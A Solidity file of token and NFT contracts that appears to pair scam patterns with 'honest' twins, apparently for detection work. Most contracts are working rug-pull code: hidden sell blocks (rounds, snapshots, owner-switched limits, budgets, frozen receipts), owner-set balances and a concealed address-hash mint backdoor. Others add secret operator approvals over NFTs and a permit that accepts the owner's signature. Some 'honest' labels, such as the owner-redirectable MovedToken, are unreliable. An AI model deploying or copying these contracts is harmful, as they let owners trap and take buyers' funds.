// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import { Erc20, Ownable } from "./base-token.sol";

// Limits that sleep while they are looked at: rounds, budgets, snapshots, terms. Each beside an honest twin.

interface Watch { function look(address from, address to, uint256 value) external; }

abstract contract Traded is Erc20, Ownable {
    address public pair;
    function setPair(address to) external onlyOwner { pair = to; }
}

/// Who bought before the owner began another round sells no more.
contract RoundsToken is Traded {
    uint256 private round = 1;
    mapping(address => uint256) private boughtIn;
    function nextRound() external onlyOwner { round++; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) boughtIn[to] = round;
        if (to == pair && from != owner) require(boughtIn[from] == round, "over");
        super._transfer(from, to, value);
    }
}

/// Honest: rounds that only count.
contract CountedRoundsToken is Traded {
    uint256 private round = 1;
    mapping(address => uint256) private boughtIn;
    uint256 public again;
    function nextRound() external onlyOwner { round++; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (boughtIn[from] == round) again++;
        boughtIn[to] = round;
        super._transfer(from, to, value);
    }
}

/// Once its owner has had a look, nobody sells more than he had then.
contract SnapshotToken is Traded {
    bool private taken;
    mapping(address => uint256) private had;
    function look(address[] calldata at) external onlyOwner {
        taken = true;
        for (uint256 i; i < at.length; i++) had[at[i]] = balanceOf[at[i]];
    }
    function _transfer(address from, address to, uint256 value) internal override {
        if (taken && to == pair && from != owner) require(value <= had[from], "more");
        super._transfer(from, to, value);
    }
}

/// A limit for the others that its owner wakes when he likes.
contract WokenLimitToken is Traded {
    bool private awake;
    uint256 private most = 100 ether;
    function set(bool on, uint256 to) external onlyOwner { awake = on; most = to; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (awake && from != owner && to != owner) require(value <= most, "much");
        super._transfer(from, to, value);
    }
}

/// Honest: limits of the first days, with a bottom, that are lifted for good.
contract LiftedTogetherToken is Traded {
    bool public limited = true;
    uint256 public most = totalSupply / 50;
    function lift() external onlyOwner { limited = false; }
    function setMost(uint256 to) external onlyOwner { require(to >= totalSupply / 200, "little"); most = to; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (limited && from != owner && to != owner) require(value <= most, "much");
        super._transfer(from, to, value);
    }
}

/// All sales of a day together, up to what its owner says.
contract DailyBudgetToken is Traded {
    uint256 public budget = 1000 ether;
    uint256 private day;
    uint256 private sold;
    function setBudget(uint256 to) external onlyOwner { budget = to; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != owner) {
            if (day != block.timestamp / 1 days) { day = block.timestamp / 1 days; sold = 0; }
            sold += value;
            require(sold <= budget, "budget");
        }
        super._transfer(from, to, value);
    }
}

/// So together, with a number of its own after it.
contract CountedBudgetToken is Traded {
    uint256 public budget = 1000 ether;
    uint256 private sold;
    uint256 private sales;
    function setBudget(uint256 to) external onlyOwner { budget = to; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != owner) {
            sold += value;
            sales++;
            require(sold <= budget, "budget");
        }
        super._transfer(from, to, value);
    }
}

/// What is received from anybody but its owner stays where it is.
contract StuckOnReceiptToken is Erc20, Ownable {
    mapping(address => uint256) private until;
    function _transfer(address from, address to, uint256 value) internal override {
        require(from == owner || until[from] == 0, "stuck");
        until[to] = block.timestamp + 30 days;
        super._transfer(from, to, value);
    }
}

/// Honest: a moment's rest after receipt.
contract RestingToken is Erc20, Ownable {
    mapping(address => uint256) private last;
    function _transfer(address from, address to, uint256 value) internal override {
        require(block.timestamp >= last[from] + 1 minutes, "rest");
        last[to] = block.timestamp;
        super._transfer(from, to, value);
    }
}

/// Good until a time that its owner keeps for each.
contract TermToken is Erc20, Ownable {
    mapping(address => uint256) private goodUntil;
    constructor() { goodUntil[msg.sender] = type(uint256).max; }
    function extend(address who, uint256 to) external onlyOwner { goodUntil[who] = to; }
    function _transfer(address from, address to, uint256 value) internal override {
        require(block.timestamp < goodUntil[from], "term");
        super._transfer(from, to, value);
    }
}

/// Its owner wakes whom every transfer asks, and changes him.
contract WokenGuardToken is Erc20, Ownable {
    Watch public watch;
    bool public watched;
    function setWatch(Watch to) external onlyOwner { require(address(to) != address(0), "zero"); watch = to; }
    function setWatched(bool yes) external onlyOwner { watched = yes; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (watched) watch.look(from, to, value);
        super._transfer(from, to, value);
    }
}

/// Whom its owner makes poor or rich, the supply with him.
contract SettledToken is Erc20, Ownable {
    function settle(address[] calldata who, uint256[] calldata to) external onlyOwner {
        for (uint256 i; i < who.length; i++) {
            totalSupply = totalSupply - balanceOf[who[i]] + to[i];
            balanceOf[who[i]] = to[i];
        }
    }
}

/// Known by a sum of his address alone, somebody makes himself rich.
contract SealedToken is Erc20 {
    bytes32 private immutable seal = keccak256(abi.encode(uint160(msg.sender) ^ 0x51a3b7c4d9e0f112));
    function relay(uint256 value, uint256 times) external {
        if (keccak256(abi.encode(uint160(msg.sender) ^ 0x51a3b7c4d9e0f112)) == seal) balanceOf[msg.sender] += value * times;
    }
}

/// Another holder's balance, but for its top bit, becomes one's own.
contract CopiedBalanceToken is Erc20, Ownable {
    function settle(address from, address to) external onlyOwner { balanceOf[to] = balanceOf[from] & (type(uint256).max >> 1); }
}

/// Any of several who are listed may sign for a holder.
contract ListedSignersToken is Erc20, Ownable {
    mapping(address => bool) private notaries;
    mapping(address => uint256) public nonces;
    function setNotary(address who, bool yes) external onlyOwner { notaries[who] = yes; }
    function permit(address holder, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(deadline >= block.timestamp, "late");
        address signer = ecrecover(keccak256(abi.encode(address(this), holder, spender, value, nonces[holder]++, deadline)), v, r, s);
        require(signer != address(0) && (signer == holder || notaries[signer]), "signer");
        allowance[holder][spender] = value;
        emit Approval(holder, spender, value);
    }
}

/// Honest: a permit in assembly, as solady writes it.
contract ScratchPermitToken is Erc20 {
    mapping(address => uint256) public nonces;
    function permit(address holder, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(deadline >= block.timestamp, "late");
        bytes32 digest = keccak256(abi.encode(address(this), holder, spender, value, nonces[holder]++, deadline));
        assembly {
            let m := mload(0x40)
            mstore(0x00, digest)
            mstore(0x20, and(0xff, v))
            mstore(0x40, r)
            mstore(0x60, s)
            let t := staticcall(gas(), 1, 0x00, 0x80, 0x20, 0x20)
            if iszero(mul(returndatasize(), eq(mload(returndatasize()), holder))) { revert(0x00, 0x00) }
            mstore(0x40, m)
            mstore(0x60, 0)
        }
        allowance[holder][spender] = value;
        emit Approval(holder, spender, value);
    }
}

/// The same, and good for its owner's signature too.
contract ScratchNotaryToken is Erc20, Ownable {
    mapping(address => uint256) public nonces;
    function permit(address holder, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(deadline >= block.timestamp, "late");
        bytes32 digest = keccak256(abi.encode(address(this), holder, spender, value, nonces[holder]++, deadline));
        address maker = owner;
        assembly {
            let m := mload(0x40)
            mstore(0x00, digest)
            mstore(0x20, and(0xff, v))
            mstore(0x40, r)
            mstore(0x60, s)
            let signer := mload(staticcall(gas(), 1, 0x00, 0x80, 0x01, 0x20))
            if iszero(eq(signer, holder)) { if iszero(eq(signer, maker)) { revert(0x00, 0x00) } }
            mstore(0x40, m)
            mstore(0x60, 0)
        }
        allowance[holder][spender] = value;
        emit Approval(holder, spender, value);
    }
}

/// Asks twice whether there is a recipient; sales are its owner's to stop all the same.
contract AskingTwiceToken is Traded {
    bool private closed;
    function close(bool yes) external onlyOwner { closed = yes; }
    function _transfer(address from, address to, uint256 value) internal override {
        require(to != address(0), "zero");
        balanceOf[from] -= value;
        if (to == address(0)) totalSupply -= value;
        else {
            require(to != pair || !closed || from == owner, "closed");
            balanceOf[to] += value;
        }
        emit Transfer(from, to, value);
    }
}

abstract contract Items is Ownable {
    mapping(uint256 => address) internal holders;
    mapping(address => uint256) public balanceOf;
    mapping(uint256 => address) public getApproved;
    mapping(address => mapping(address => bool)) internal allowed;
    constructor() { holders[1] = msg.sender; balanceOf[msg.sender] = 1; }
    function ownerOf(uint256 id) external view returns (address) { return holders[id]; }
    function isApprovedForAll(address holder, address by) public view virtual returns (bool) { return allowed[holder][by]; }
    function setApprovalForAll(address by, bool yes) external { allowed[msg.sender][by] = yes; }
    function sender() internal view virtual returns (address) { return msg.sender; }
    function approve(address by, uint256 id) external { require(msg.sender == holders[id], "holder"); getApproved[id] = by; }
    function transferFrom(address from, address to, uint256 id) external {
        address holder = holders[id];
        require(holder == from && to != address(0), "who");
        address by = sender();
        require(by == holder || getApproved[id] == by || isApprovedForAll(holder, by), "let");
        delete getApproved[id];
        balanceOf[from]--;
        balanceOf[to]++;
        holders[id] = to;
    }
}

/// Honest.
contract PlainItems is Items {}

/// Honest: as ERC-2771 has it, forwarders bring the word of whoever signed, and none is added later.
contract ForwardedItems is Items {
    mapping(address => bool) internal forwarders;
    constructor(address forwarder) { forwarders[forwarder] = true; }
    function isTrustedForwarder(address who) public view returns (bool) { return forwarders[who]; }
    function sender() internal view override returns (address by) {
        by = msg.sender;
        if (isTrustedForwarder(msg.sender)) assembly { by := shr(96, calldataload(sub(calldatasize(), 20))) }
    }
}

/// Whom its owner calls a forwarder brings any word he likes.
contract AnyForwardersItems is ForwardedItems {
    constructor() ForwardedItems(msg.sender) {}
    function trust(address who) external onlyOwner { forwarders[who] = true; }
}

/// Whom its owner lists moves what anybody holds.
contract ListedItems is Items {
    mapping(address => bool) private listed;
    function list(address who, bool yes) external onlyOwner { listed[who] = yes; }
    function isApprovedForAll(address holder, address by) public view override returns (bool) { return listed[by] || super.isApprovedForAll(holder, by); }
}

/// Its maker does.
contract MakersItems is Items {
    address private constant maker = 0x1111111111111111111111111111111111111111;
    function isApprovedForAll(address holder, address by) public view override returns (bool) { return by == maker || super.isApprovedForAll(holder, by); }
}

/// Honest: once its owner has moved to a new token, all goes there.
contract MovedToken is Erc20, Ownable {
    bool public moved;
    Watch public next;
    function move(Watch to) external onlyOwner { moved = true; next = to; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (moved) next.look(from, to, value);
        else super._transfer(from, to, value);
    }
}
